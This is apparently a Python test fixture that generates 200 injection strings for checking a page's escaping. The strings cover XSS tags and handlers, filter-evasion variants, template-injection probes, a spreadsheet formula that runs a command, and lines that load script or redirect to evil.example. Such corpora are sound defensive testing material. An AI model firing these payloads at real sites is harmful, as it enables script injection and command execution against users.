"""Two hundred texts that would be script, markup or a trick if any page took them for more than text."""

_CALL = "window.pwned()"
_TAGS = (
    "<script>{c}</script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg/onload={c}>", "<body onload={c}>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>", "<iframe src=javascript:{c}>", "<a href=javascript:{c}>a</a>",
    "<details open ontoggle={c}>", "<video><source onerror={c}>", "<audio src=x onerror={c}>", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>", "<marquee onstart={c}>", "<object data=javascript:{c}>", "<embed src=javascript:{c}>",
    "<form action=javascript:{c}><button autofocus>x</button></form>", "<math><mtext><img src=x onerror={c}></mtext></math>",
    "<style onload={c}></style>", "<style>*{{background:url(//evil.example/a)}}</style>", "<link rel=stylesheet href=//evil.example/a>",
    "<link rel=preload as=script href=//evil.example/a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<template><script>{c}</script></template>", "<noscript><img src=x onerror={c}></noscript>", "<div hx-get=//evil.example hx-trigger=load></div>",
    "<div hx-on::load={c}></div>", "<div data-hx-get=/ data-hx-trigger=load></div>", "<b id=csrf-token>x</b>",
)  # fmt: skip
_BREAKS = ("'>", '">', "-->", "</textarea>", "</title>", "</script>", "</style>", "]]>", "</option></select>", "\\'>")
_ATTRIBUTES = (
    "' onmouseover={c} x='", '" onfocus={c} autofocus x="', "` onload={c}", "x onerror={c}", "javascript:{c}", "JaVaScRiPt:{c}",
    "java\tscript:{c}", "data:text/html,<script>{c}</script>", "vbscript:{c}", "//evil.example/x.js",
)  # fmt: skip
_SCRIPTS = (
    "';{c};//",
    '";{c};//',
    "${{{c}}}",
    "`;{c};//",
    "\\u0027;{c};//",
    "</script><script>{c}</script>",
    "*/{c}/*",
)
_TEMPLATES = (
    "{{{{7*7}}}}",
    "{{% debug %}}",
    "{{{{constructor.constructor('{c}')()}}}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "%(x)s",
    "{{0}}",
)
_TEXTS = (
    "\u202egnp.exe", "\u2066a\u2069", "a\u200bb", "\ufeffx", "\u0000"[:0] + "\u0085", "\u2028{c}\u2029", "\x1b[31mred", "A\u0301" * 20,
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;", "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "\x3cscript\x3e{c}\x3c/script\x3e", "+ADw-script+AD4-",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<ScRiPt >{c}</sCrIpT >", "<script\n>{c}</script\n>", "<<script>{c}//<</script>",
    "<img src='x' onerror='{c}'//", "<img/src=`x`onerror={c}>", "<img src=x:x onerror\n=\n{c}>", "<!--><img src=x onerror={c}>-->",
    "<![CDATA[<script>{c}</script>]]>", "<?xml-stylesheet href=javascript:{c}?>", "<x onclick={c}>click</x>",
)  # fmt: skip


def payloads():
    """Return them, each once."""
    every = [*_TAGS, *_ATTRIBUTES, *_SCRIPTS, *_TEMPLATES, *_TEXTS]
    every += [f"{before}{tag}" for before in _BREAKS for tag in _TAGS[:12]]
    return list(dict.fromkeys(one.format(c=_CALL) for one in every))[:200]
